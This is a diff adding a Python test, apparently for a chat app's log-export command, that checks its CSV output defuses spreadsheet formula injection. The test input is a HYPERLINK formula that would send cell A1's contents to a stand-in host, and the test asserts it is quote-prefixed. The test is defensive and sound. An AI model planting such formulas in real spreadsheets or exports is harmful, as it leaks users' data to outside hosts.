@@ -115,6 +115,21 @@ def _seed(tmp_path: Path) -> None:
     database.dispose()
 
 
+def test_logs_csv_does_not_hand_a_spreadsheet_formulas(tmp_path: Path) -> None:
+    database = open_app_database(_app_db_url(tmp_path))
+    formula = '=HYPERLINK("http://exemplo.invalid/?"&A1,"clique")'
+    database.logs.write_turn(
+        TurnLog(conversation_id="f", surface="api", question=formula, answer="-1 pedidos", row_count=3)
+    )
+    database.dispose()
+    runner = CliRunner()
+    parsed = list(csv.DictReader(io.StringIO(runner.invoke(app, ["logs", "--csv"]).output)))
+    assert parsed[0]["question"] == "'" + formula and parsed[0]["answer"] == "'-1 pedidos"
+    assert parsed[0]["row_count"] == "3"  # numbers are numbers
+    exact = json.loads(runner.invoke(app, ["logs", "--json"]).output)
+    assert exact[0]["question"] == formula  # --json keeps the text as logged
+
+
 def test_logs_filters_and_formats(tmp_path: Path) -> None:
     _seed(tmp_path)
     runner = CliRunner()
